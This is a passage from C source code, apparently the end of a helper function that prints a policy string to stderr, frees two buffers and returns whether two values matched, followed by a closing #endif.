            if (policy) fprintf(stderr, "  policy:\n%s\n", policy);
        }
    }
    free(ja);
    free(jb);
    return same;
}

#endif
